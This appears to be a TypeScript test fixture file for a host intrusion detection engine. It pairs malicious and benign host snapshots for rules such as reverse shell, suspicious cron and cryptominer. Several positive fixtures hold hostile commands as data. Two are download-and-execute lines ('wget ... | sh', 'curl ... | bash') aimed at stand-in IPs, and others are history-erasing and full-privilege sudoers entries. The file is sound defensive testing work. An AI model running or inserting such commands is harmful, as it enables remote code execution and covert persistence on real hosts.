// One positive and one benign look-alike host per detection.
import type { HostData, QueryEntities } from "../../shared/engine/index.js";
import { host, proc, sock } from "./helpers.js";

export interface DetectionFixture {
  positive: HostData;
  benign: HostData;
  entities?: Partial<QueryEntities>;
}

const user = (uid: number, username: string, shell: string, directory = `/home/${username}`) => ({ uid: String(uid), gid: String(uid), username, shell, directory });

export const FIXTURES: Record<string, DetectionFixture> = {
  "unexpected-listener": {
    positive: host({ listening_ports: [{ pid: "7", port: "4444", protocol: "6", address: "0.0.0.0" }], processes: [proc(7, "x", "/tmp/x")] }, { allowed_ports: "22" }),
    benign: host({
      listening_ports: [
        { pid: "8", port: "9100", protocol: "6", address: "::" },
        { pid: "9", port: "8080", protocol: "6", address: "127.0.0.1" },
        { pid: "10", port: "123", protocol: "17", address: "0.0.0.0" },
      ],
    }, { allowed_ports: "22,9100" }),
  },
  "deleted-binary-running": {
    positive: host({ processes: [proc(7, "x", "/dev/shm/.x", "/dev/shm/.x", { on_disk: "0" })] }),
    benign: host({ processes: [proc(7, "nginx", "/usr/sbin/nginx"), proc(2, "kthreadd", "", "", { on_disk: "-1" })] }),
  },
  "exec-from-tmp": {
    positive: host({ processes: [proc(7, "payload", "/var/tmp/payload")] }),
    benign: host({ processes: [proc(7, "tmpreaper", "/usr/sbin/tmpreaper", "/usr/sbin/tmpreaper 7d /tmp"), proc(8, "build", "/home/u/tmp/build")] }),
  },
  "reverse-shell": {
    positive: host({ processes: [proc(7, "bash", "/usr/bin/bash", "bash -i")], process_open_sockets: [sock(7, "203.0.113.66", 443)] }),
    benign: host({ processes: [proc(7, "bash", "/usr/bin/bash", "-bash"), proc(8, "sshd", "/usr/sbin/sshd", "sshd: admin")], process_open_sockets: [sock(8, "203.0.113.66", 51000), sock(7, "127.0.0.1", 5432)] }),
  },
  "ld-preload": {
    positive: host({ process_envs: [{ pid: "7", key: "LD_PRELOAD", value: "/dev/shm/libhide.so" }] }),
    benign: host({ process_envs: [{ pid: "7", key: "LD_PRELOAD", value: "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2" }, { pid: "7", key: "LD_LIBRARY_PATH", value: "/tmp/lib" }] }),
  },
  "ssh-authorized-key": {
    positive: host({ authorized_keys: [{ uid: "0", key: "ssh-ed25519 AAAAC3Nza...evil mallory@kali", key_file: "/root/.ssh/authorized_keys" }], users: [user(0, "root", "/bin/bash", "/root")] }),
    benign: host(
      {
        authorized_keys: [
          { uid: "1000", key: "ssh-ed25519 AAAAC3Nza...alice alice@laptop", key_file: "/home/alice/.ssh/authorized_keys" },
          { uid: "0", key: "ssh-ed25519 AAAAC3Nza...ansible ansible@mgmt", key_file: "/root/.ssh/authorized_keys" },
        ],
        users: [user(0, "root", "/bin/bash", "/root"), user(1000, "alice", "/bin/bash")],
      },
      { allowed_ssh_keys: "ansible@mgmt" },
    ),
  },
  "suspicious-cron": {
    positive: host({ crontab: [{ command: "wget -qO- http://198.51.100.3/a.sh | sh", path: "/etc/cron.d/sysupdate" }] }),
    benign: host({ crontab: [{ command: "cd / && run-parts --report /etc/cron.hourly", path: "/etc/crontab" }, { command: "/usr/bin/certbot -q renew", path: "/etc/cron.d/certbot" }] }),
  },
  "suspicious-systemd-unit": {
    positive: host({ systemd_units: [{ id: "upd.service", fragment_path: "/etc/systemd/system/upd.service", active_state: "active", exec_start: "/tmp/.u/upd -d" }] }),
    benign: host({ systemd_units: [{ id: "ssh.service", fragment_path: "/lib/systemd/system/ssh.service", active_state: "active", exec_start: "/usr/sbin/sshd -D" }] }),
  },
  "unexpected-suid": {
    positive: host({ suid_bin: [{ path: "/tmp/.bash", username: "root", permissions: "S" }] }),
    benign: host({ suid_bin: [{ path: "/bin/su", username: "root" }, { path: "/usr/bin/sudo", username: "root" }, { path: "/opt/vendor/helper", username: "root" }] }, { allowed_suid: "/opt/vendor/helper" }),
  },
  "unexpected-kernel-module": {
    positive: host({ kernel_modules: [{ name: "diamorphine", status: "Live" }] }),
    benign: host({ kernel_modules: [{ name: "ext4", status: "Live" }, { name: "overlay", status: "Live" }, { name: "nvidia", status: "Live" }] }, { allowed_kmods: "nvidia" }),
  },
  "non-root-uid0": {
    positive: host({ users: [user(0, "root", "/bin/bash", "/root"), user(0, "toor", "/bin/sh", "/root")] }),
    benign: host({ users: [user(0, "root", "/bin/bash", "/root"), user(11, "operator", "/usr/sbin/nologin", "/root")] }),
  },
  "new-interactive-account": {
    positive: host({ users: [user(998, "svc-backup", "/bin/bash", "/var/lib/svc")] }),
    benign: host({ users: [user(33, "www-data", "/usr/sbin/nologin", "/var/www"), user(1000, "alice", "/bin/bash"), user(4, "sync", "/bin/sync", "/bin")] }),
  },
  "remote-root-login": {
    positive: host({ last: [{ username: "root", tty: "pts/0", type: "7", time: "1731990000", host: "203.0.113.5" }] }),
    benign: host(
      {
        last: [
          { username: "root", tty: "tty1", type: "7", time: "1731990000", host: "" },
          { username: "admin", tty: "pts/0", type: "7", time: "1731990000", host: "203.0.113.5" },
          { username: "root", tty: "pts/1", type: "7", time: "1731990000", host: "10.0.0.5" },
        ],
      },
      { allowed_root_from: "10.0.0.5" },
    ),
  },
  cryptominer: {
    positive: host({ processes: [proc(7, "xmrig", "/opt/x/xmrig", "xmrig -o stratum+tcp://pool.example:3333")] }),
    benign: host({ processes: [proc(7, "java", "/usr/bin/java", "java -jar app.jar")], process_open_sockets: [sock(7, "10.0.0.5", 3333)] }),
  },
  "history-tampering": {
    positive: host({ shell_history: [{ uid: "0", command: "unset HISTFILE", history_file: "/root/.bash_history" }] }),
    benign: host({ shell_history: [{ uid: "0", command: "history | grep ssh", history_file: "/root/.bash_history" }, { uid: "0", command: "echo $HISTFILE", history_file: "/root/.bash_history" }] }),
  },
  "download-execute": {
    positive: host({ shell_history: [{ uid: "1000", command: "curl -s http://198.51.100.3/x.sh | bash", history_file: "/home/a/.bash_history" }] }),
    benign: host({
      shell_history: [
        { uid: "1000", command: "curl -fsSL -o go.tar.gz https://go.dev/dl/go1.22.linux-amd64.tar.gz", history_file: "/home/a/.bash_history" },
        { uid: "1000", command: "curl -fsSL https://get.docker.com | sh", history_file: "/home/a/.bash_history" },
      ],
    }),
  },
  "known-bad-hash": {
    positive: host({ hash: [{ path: "/srv/eicar.com", sha256: "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f" }] }),
    benign: host({ hash: [{ path: "/usr/bin/bash", sha256: "0d2a3c1f6b0e1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d" }] }),
  },
  "privileged-container": {
    positive: host({ docker_containers: [{ id: "abc", name: "dbg", image: "alpine:latest", privileged: "1", mounts: "/:/host" }] }),
    benign: host({ docker_containers: [{ id: "def", name: "web", image: "nginx:1.27", privileged: "0", mounts: "/srv/www:/usr/share/nginx/html:ro" }] }),
  },
  "sudoers-nopasswd-all": {
    positive: host({ sudoers: [{ source: "/etc/sudoers.d/x", header: "deploy", rule_details: "ALL=(ALL) NOPASSWD: ALL" }] }),
    benign: host({ sudoers: [{ header: "%sudo", rule_details: "ALL=(ALL:ALL) ALL" }, { header: "backup", rule_details: "ALL=(root) NOPASSWD: /usr/bin/rsync" }] }),
  },
  "hosts-redirection": {
    positive: host({ etc_hosts: [{ address: "203.0.113.9", hostnames: "github.com" }] }),
    benign: host({ etc_hosts: [{ address: "127.0.0.1", hostnames: "localhost" }, { address: "127.0.1.1", hostnames: "host-1.acme.internal host-1" }, { address: "10.0.0.7", hostnames: "db.internal" }] }),
  },
  "process-masquerading": {
    positive: host({ processes: [proc(7, "[kworker/0:1]", "/tmp/kw", "[kworker/0:1]")] }),
    benign: host({ processes: [proc(45, "kworker/0:1-events", "", ""), proc(710, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D"), proc(9, "python3", "/usr/bin/python3.11", "python3 app.py")] }),
  },
  "ci-runner-egress": {
    positive: host({ process_open_sockets: [sock(7, "203.0.113.5", 6667)], processes: [proc(7, "node", "/usr/bin/node")] }, { role: "ci-runner" }),
    benign: host({ process_open_sockets: [sock(7, "203.0.113.5", 6667), sock(8, "140.82.112.3", 443)] }, { role: "web" }),
  },
  "vulnerable-package": {
    positive: host({ deb_packages: [{ name: "xz-utils", version: "5.6.0-0.2" }] }),
    benign: host({ deb_packages: [{ name: "xz-utils", version: "5.6.1+really5.4.5-1" }, { name: "openssh-server", version: "1:9.2p1-2+deb12u3" }] }),
  },
  "lateral-admin-connection": {
    positive: host({ processes: [proc(7, "ssh", "/usr/bin/ssh", "ssh root@10.0.0.5")], process_open_sockets: [sock(7, "10.0.0.5", 22)] }, { role: "app" }),
    benign: host({ processes: [proc(8, "sshd", "/usr/sbin/sshd")], process_open_sockets: [sock(8, "10.0.0.5", 22), sock(9, "203.0.113.5", 22)] }, { role: "app" }),
  },
  "ioc-match": {
    positive: host({ process_open_sockets: [sock(7, "198.51.100.77", 443)] }),
    benign: host({ process_open_sockets: [sock(7, "198.51.100.78", 443)] }),
    entities: { ips: ["198.51.100.77"] },
  },
};
